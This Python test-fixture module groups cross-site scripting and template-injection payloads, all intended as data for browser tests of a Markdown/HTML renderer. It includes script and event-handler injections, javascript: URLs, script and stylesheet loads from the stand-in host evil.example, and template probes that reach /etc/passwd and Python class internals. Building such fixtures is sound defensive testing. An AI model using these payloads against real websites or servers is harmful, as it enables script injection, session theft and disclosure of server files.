"""Text that tries to become code: in HTML, in Markdown, in attributes, addresses, templates and front matter.

Each payload sets `window.PWNED` if it runs. They are data for the browser tests; none is executed by Python.
"""

from __future__ import annotations

RUN = "window.PWNED=1"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<!--<img src='--><script>{RUN}</script>'>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<template><script>{RUN}</script></template>",
    f"\u2028<script>{RUN}</script>",
    f"\ufeff<script>{RUN}</script>",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<b onmouseover={RUN}>hover</b>",
    f"<a href=# onclick={RUN}>click</a>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<iframe onload={RUN}></iframe>",
    f"<marquee onstart={RUN}>m</marquee>",
    f"<style onload={RUN}></style>",
    f"<object data=x onerror={RUN}></object>",
    f"<p style='animation:x' onanimationstart={RUN}>",
    f"<xss id=x tabindex=1 onfocus={RUN}></xss>",
)
ADDRESSES = (
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt:{RUN})",
    f"[click](java\tscript:{RUN})",
    f"[click](&#106;avascript:{RUN})",
    f"[click](<javascript:{RUN}>)",
    f"[click](vbscript:{RUN})",
    f"[click](data:text/html,<script>parent.{RUN}</script>)",
    f"![image](javascript:{RUN})",
    f"<javascript:{RUN}>",
    f"[ref]\n\n[ref]: javascript:{RUN}",
    f"javascript:{RUN}",
    f"<a href='javascript:{RUN}'>click</a>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<form action='javascript:{RUN}'><button>go</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<script src='https://evil.example/x.js'></script>",
    'https://evil.example/"onmouseover="window.PWNED=1',
)
ATTRIBUTES = (
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'x{{: onmouseover="{RUN}" }}',
    f"{{: onclick={RUN} }}",
    "{: #__config }",
    "{ #__config }",
    "word {#__search .md-toggle}",
    f"# heading {{: onmouseover={RUN} }}",
    f"**bold**{{ onmouseover={RUN} }}",
    f"[a](b){{: onclick={RUN} }}",
    f'=" onerror={RUN} x="',
    f"`code`{{: onmouseover={RUN} }}",
)
ENTITIES = (
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3C;img src=x onerror={RUN}&#x3E;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
)
BLOCKS = (
    f"<div markdown='1'><script>{RUN}</script></div>",
    f"<div markdown=1>\n\n<img src=x onerror={RUN}>\n\n</div>",
    f'<script id="__config" type="application/json">{{"base":"https://evil.example"}}</script><script>{RUN}</script>',
    f"</div></article></main><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"```\n</code></pre><script>{RUN}</script>\n```",
    f"    </code></pre><img src=x onerror={RUN}>",
    f"|a|b|\n|-|-|\n|<img src=x onerror={RUN}>|c|",
    f"^[<img src=x onerror={RUN}>]",
    f"\u0002wzxhzdk:0\u0003<script>{RUN}</script>",
    "\u0002klzzwxh:0\u0003",
    f'!!! note "<img src=x onerror={RUN}>"',
    '--8<-- "mkdocs.yml"',
    "*[HTML]: <img src=x>",
)
TEMPLATES = (
    "{{ 7*7 }}{{ config }}",
    "{% raw %}{{ config.__class__ }}{% endraw %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{% include '/etc/passwd' %}",
    "---\ntitle: x\ntemplate: evil.html\n---",
    'x"\nhide: [toc]\nicon: evil',
)

PAYLOADS = SCRIPTS + HANDLERS + ADDRESSES + ATTRIBUTES + ENTITIES + BLOCKS + TEMPLATES
